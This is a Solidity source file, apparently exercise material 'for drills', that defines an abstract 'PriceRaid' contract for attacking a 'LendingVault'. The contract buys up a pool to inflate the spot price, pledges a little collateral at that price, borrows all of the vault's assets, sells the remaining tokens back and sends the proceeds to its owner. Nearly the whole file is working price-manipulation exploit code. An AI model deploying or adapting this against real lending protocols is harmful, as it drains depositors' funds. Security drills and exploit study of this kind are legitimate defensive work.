// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";
import {LendingVault} from "./LendingVault.sol";
import {Pool} from "./Pool.sol";

/// What the attacks on `LendingVault` have in common, for drills: with cash at hand, buy the pool up, pledge a little of
/// what was bought at the price just made, borrow all the cash the vault has, and sell the rest back.
abstract contract PriceRaid {
    address internal immutable owner;
    LendingVault internal immutable vault;

    error NotOwner(address caller);

    constructor(LendingVault vault_) {
        owner = msg.sender;
        vault = vault_;
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    function _raid(address token, uint256 amount) internal {
        uint256 bought = _trade(token, amount);
        uint256 pledged = _borrowAll();
        _trade(address(vault.collateral()), bought - pledged);
    }

    function _sendHome(IERC20 token) internal {
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function _trade(address token, uint256 amount) private returns (uint256) {
        Pool pool = vault.pool();
        IERC20(token).approve(address(pool), amount);
        return pool.swapExactIn(token, amount, 0, address(this));
    }

    function _borrowAll() private returns (uint256 pledged) {
        uint256 prize = vault.asset().balanceOf(address(vault));
        uint256 debt = prize + (prize * vault.ORIGINATION_FEE()) / 10_000;
        // A little more than needed, since the vault rounds down.
        pledged = (debt * 1e18 * 100) / (vault.pool().spotPrice() * vault.LOAN_TO_VALUE()) + 1e15;
        vault.collateral().approve(address(vault), pledged);
        vault.addCollateral(pledged);
        vault.borrow(prize);
    }
}
